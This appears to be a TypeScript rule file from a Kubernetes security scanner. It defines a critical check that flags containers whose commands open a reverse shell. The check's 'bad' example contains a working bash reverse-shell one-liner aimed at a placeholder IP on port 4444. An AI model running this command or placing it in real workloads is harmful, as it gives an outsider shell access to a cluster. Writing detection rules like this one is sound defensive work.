import { critical } from "../../../model/severity.ts"
import { check } from "../check.ts"
import { opensReverseShell } from "../command-patterns.ts"
import { container, pod } from "../examples.ts"
import { everyCommand } from "../start-commands.ts"

/**
 * The command hands a shell to somebody over the network. Nothing that is meant for production does that; it is the
 * usual first line of an intruder who may create pods.
 *
 * Field:   command, args, exec probes and hooks of every container class
 * Allowed: commands that tie no shell to a network connection
 * Source:  MITRE ATT&CK T1059.004
 */
export const reverseShell = check({
  id: "reverse-shell",
  title: "Container hands out a shell over the network",
  severity: critical("somebody outside has a shell in the cluster"),
  frameworks: ["mitre-attack/T1059.004", "mitre-attack/T1610"],
  containers(container, report) {
    for (const { text, resource, path } of everyCommand(container))
      if (opensReverseShell(text)) report({ resource, path }, `container ${container.name} hands out a shell`)
  },
  fix: { title: "Find out who wrote it, stop the workload and treat the cluster as broken into" },
  examples: {
    good: pod({ containers: [container({ command: ["sh", "-c", "nc -z database 5432 && exec app"] })] }),
    bad: pod({ containers: [container({ command: ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"] })] }),
  },
})
